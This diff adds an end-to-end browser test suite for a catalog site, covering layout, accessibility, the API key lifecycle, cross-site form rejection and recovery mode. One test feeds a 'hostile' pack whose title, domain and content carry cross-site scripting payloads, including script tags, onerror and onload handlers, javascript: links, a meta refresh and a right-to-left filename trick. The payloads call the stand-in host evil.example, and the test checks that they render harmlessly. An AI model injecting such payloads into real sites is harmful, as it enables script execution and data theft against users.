@@ -1,0 +1,257 @@
+import { readFileSync } from 'node:fs'
+import { createRequire } from 'node:module'
+import { chromium, type Browser, type BrowserContextOptions, type Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest'
+import { findChromium } from '../../../codec/test/runtimes/find-chromium.ts'
+import { makePack } from '../make-pack.ts'
+import { startServer, type Server } from './start-server.ts'
+
+const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8')
+
+const TEXT = `# TLS basics
+
+Logs of CT are public: see [the web](https://example.org/) and [below](#a-table).
+
+## A table
+
+| A term that is long enough to make this table wide | Meaning of the term | Another column | And one more |
+| --- | --- | ---: | --- |
+| CT | a log of certificates | 1,000 | yes |
+
+\`\`\`js
+const line = 'a line of code that is wider than a narrow screen could ever show without a scroll bar'
+\`\`\`
+
+> A quotation with \`code\`.
+
+- [x] done
+`
+const RUN = `document.title = 'owned'; fetch('https://evil.example/')`
+const HOSTILE = [
+  `<script>${RUN}</script>`,
+  `<img src=x onerror="${RUN}">`,
+  `<svg onload="${RUN}"><a xlink:href="javascript:${RUN}">x</a></svg>`,
+  `[link](javascript:${encodeURIComponent(RUN)}) [data](data:text/html,<script>${RUN}</script>)`,
+  '![image](https://evil.example/pixel.png) ![other](//evil.example/pixel.png)',
+  '<form id="main" name="body" action="https://evil.example/"><input name=cookie autofocus></form>',
+  '<style>body { display: none }</style><meta http-equiv=refresh content="0;url=https://evil.example/">',
+  '<iframe srcdoc="<script>parent.document.title=1</script>"></iframe> </div></main> \u202Egnp.exe',
+  'zz',
+]
+const packs = [
+  makePack({
+    slug: 'tls-basics',
+    title: 'TLS basics',
+    content: TEXT,
+    preview_content: TEXT,
+    rosetta: '[DECODE] CT=certificate transparency',
+  }),
+  makePack({
+    slug: 'hostile',
+    title: `</title><script>${RUN}</script>`,
+    domain: `"><img src=x onerror="${RUN}">`,
+    domain_slug: 'hostile',
+    content: HOSTILE.join('\n\n'),
+    preview_content: HOSTILE.join('\n\n'),
+    rosetta: `[DECODE] zz=<script>${RUN}</script>`,
+  }),
+]
+
+let server: Server
+let browser: Browser
+let visitors = 0
+
+beforeAll(async () => {
+  const args = ['--no-sandbox', '--disable-background-networking']
+  server = await startServer(packs)
+  browser = await chromium.launch({ executablePath: findChromium(), args })
+})
+afterAll(async () => {
+  await browser?.close()
+  await server?.stop()
+})
+
+/** A visitor with an address of its own; whatever its pages complain of, or load from elsewhere, fails the test. */
+async function open(options: BrowserContextOptions = {}): Promise<Page> {
+  const extraHTTPHeaders = { 'x-forwarded-for': `10.0.0.${++visitors}` }
+  const context = await browser.newContext({ baseURL: server.origin, extraHTTPHeaders, ...options })
+  const page = await context.newPage()
+  const faults: string[] = []
+  page.on('console', (message) => {
+    const isStatus = message.text().startsWith('Failed to load resource: the server responded with')
+    if (message.type() === 'error' && !isStatus) faults.push(message.text())
+  })
+  page.on('pageerror', (error) => faults.push(String(error)))
+  page.on('request', (request) => {
+    if (!request.url().startsWith(`${server.origin}/`)) faults.push(request.url())
+  })
+  onTestFinished(async () => {
+    await context.close()
+    expect(faults).toEqual([])
+  })
+  return page
+}
+
+async function findViolations(page: Page): Promise<string[]> {
+  await page.evaluate(axe)
+  const result = await page.evaluate<{
+    violations: { id: string; impact: string; nodes: { html: string }[] }[]
+  }>('axe.run(document, { resultTypes: ["violations"] })')
+  return result.violations
+    .filter(({ impact }) => impact === 'serious' || impact === 'critical')
+    .map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(' ')}`)
+}
+
+const measureOverflow = (page: Page): Promise<number> =>
+  page.evaluate<number>('document.documentElement.scrollWidth - document.documentElement.clientWidth')
+
+async function signUp(page: Page, email: string, password = 'correct horse'): Promise<void> {
+  await page.goto('/settings')
+  for (const [action, button] of [
+    ['sign-up', 'Sign up'],
+    ['sign-in', 'Sign in'],
+  ] as const) {
+    const form = page.locator(`form[action="/settings/${action}"]`)
+    await form.getByLabel('Email').fill(email)
+    await form.getByLabel('Password').fill(password)
+    await form.getByRole('button', { name: button, exact: true }).click()
+  }
+  await page.getByRole('button', { name: 'Sign out', exact: true }).waitFor()
+}
+
+const ask = async (key: string): Promise<number> =>
+  (await fetch(`${server.origin}/api/v1/packs/tls-basics`, { headers: { 'x-api-key': key } })).status
+
+describe.each([
+  '/',
+  '/browse',
+  '/browse?search=zebra',
+  '/browse/tls-basics',
+  '/browse/none',
+  '/settings',
+  '/docs',
+  '/docs/errors/recovery_mode',
+])('%s', (path) => {
+  it.each([true, false])('fits every screen in both schemes, with script: %s', async (javaScriptEnabled) => {
+    const page = await open({ javaScriptEnabled })
+    await page.goto(path)
+    expect(await page.getByRole('heading', { level: 1 }).count()).toBe(1)
+    for (const colorScheme of ['light', 'dark'] as const) {
+      await page.emulateMedia({ colorScheme })
+      for (const width of [360, 390, 1280]) {
+        await page.setViewportSize({ width, height: 844 })
+        expect(await measureOverflow(page), `${width}`).toBe(0)
+      }
+      expect(javaScriptEnabled ? await findViolations(page) : []).toEqual([])
+    }
+  })
+})
+
+it('a hostile pack is harmless', async () => {
+  const page = await open()
+  await page.goto('/browse/hostile')
+  const text = await page.locator('.prose').innerText()
+  for (const word of [
+    '<script>',
+    'onerror=',
+    '<svg onload',
+    '<form id="main"',
+    '<style>',
+    '[U+202E]gnp.exe',
+  ]) {
+    expect(text).toContain(word)
+  }
+  expect(await page.title()).toBe(`</title><script>${RUN}</script> · Packs`)
+  expect(await page.locator('.prose :is(script, img, svg, form, input, style, iframe, meta)').count()).toBe(0)
+  expect(await page.locator('main#main').count()).toBe(1)
+  const links = await page
+    .locator('.prose a')
+    .evaluateAll((found) => found.map((link) => link.getAttribute('href')))
+  expect(links).toEqual(['https://evil.example/', 'https://evil.example/pixel.png'])
+  await page.goto('/browse?domain=hostile')
+  expect(await page.title()).toBe('Browse · Packs')
+})
+
+it('a key lives from sign-up to its end, without script', async () => {
+  const page = await open({ javaScriptEnabled: false })
+  await signUp(page, 'ann@example.com')
+  await page.getByLabel('Name of a new key').fill('laptop')
+  await page.getByRole('button', { name: 'Create key', exact: true }).click()
+  const first = (await page.locator('.key').textContent()) ?? ''
+  expect(await ask(first)).toBe(200)
+  await page.getByRole('button', { name: 'Rotate', exact: true }).click()
+  const second = (await page.locator('.key').textContent()) ?? ''
+  expect(second).not.toBe(first)
+  expect([await ask(first), await ask(second)]).toEqual([200, 200])
+  await page.goto('/settings')
+  expect(await page.getByText(second).count()).toBe(0)
+  expect(await page.locator('.gauge').getAttribute('aria-label')).toBe('3 of 10 requests used today')
+  await page.getByRole('button', { name: 'Revoke', exact: true }).first().click()
+  await page.getByRole('button', { name: 'Revoke', exact: true }).first().click()
+  await expect.poll(() => Promise.all([ask(first), ask(second)]), { timeout: 5000 }).toEqual([401, 401])
+  await page.getByRole('button', { name: 'Sign out', exact: true }).click()
+  await page.getByRole('button', { name: 'Sign up', exact: true }).waitFor()
+  expect(server.log()).not.toMatch(/kp_|ann@example\.com|correct horse/)
+})
+
+it('Settings fit every screen, a new key can be copied, and what scrolls is reached by keyboard', async () => {
+  const page = await open()
+  await signUp(page, 'bob@example.com')
+  await page.getByLabel('Name of a new key').fill('a name that is rather long for a key, but that is allowed')
+  await page.getByRole('button', { name: 'Create key', exact: true }).click()
+  await page.getByRole('button', { name: 'Copy', exact: true }).click()
+  await page.getByText(/^(?:Copied|Selected)/).waitFor()
+  for (const colorScheme of ['light', 'dark'] as const) {
+    await page.emulateMedia({ colorScheme })
+    await page.setViewportSize({ width: 360, height: 740 })
+    expect(await measureOverflow(page)).toBe(0)
+    expect(await findViolations(page)).toEqual([])
+  }
+  await page.goto('/browse/tls-basics')
+  await page.keyboard.press('Tab')
+  expect(await page.evaluate('document.activeElement.textContent')).toBe('Skip to content')
+  await page.keyboard.press('Enter')
+  expect(await page.evaluate('document.activeElement.id')).toBe('main')
+})
+
+it('a form of another site does nothing', async () => {
+  const page = await open()
+  await signUp(page, 'cat@example.com')
+  const other = await page.context().newPage()
+  await other.setContent(
+    `<form method="post" action="${server.origin}/settings/keys"><input name="name" value="x"><button>Go</button></form>`,
+  )
+  const [answer] = await Promise.all([
+    other.waitForResponse(/\/settings\/keys$/),
+    other.getByRole('button').click(),
+  ])
+  expect(answer.status()).toBe(403)
+  expect(await server.catalog.keys.list((await server.catalog.accounts.find('cat@example.com'))!.id)).toEqual(
+    [],
+  )
+})
+
+it('in recovery mode the catalog is there in full, and keys are refused with the reason', async () => {
+  const page = await open()
+  await signUp(page, 'dan@example.com')
+  await server.catalog.settings.setMode('recovery', { message: 'We restore a disk.', retryAfter: 60 })
+  try {
+    await expect.poll(() => ask('kp_x'), { timeout: 5000 }).toBe(503)
+    await page.getByLabel('Name of a new key').fill('late')
+    await page.getByRole('button', { name: 'Create key', exact: true }).click()
+    expect(await page.getByRole('alert').textContent()).toContain('keys can neither be created nor used')
+    const visitor = await open()
+    await visitor.goto('/browse/tls-basics')
+    await visitor.getByText('We restore a disk.').waitFor()
+    const [download] = await Promise.all([
+      visitor.waitForEvent('download'),
+      visitor.getByRole('link', { name: 'Pack .pack.json' }).click(),
+    ])
+    expect(download.suggestedFilename()).toBe('tls-basics.pack.json')
+    const pack = JSON.parse(readFileSync(await download.path(), 'utf8')) as unknown
+    expect(pack).toEqual(packs[0]!.pack)
+    expect(await findViolations(visitor)).toEqual([])
+  } finally {
+    await server.catalog.settings.setMode('online')
+  }
+})
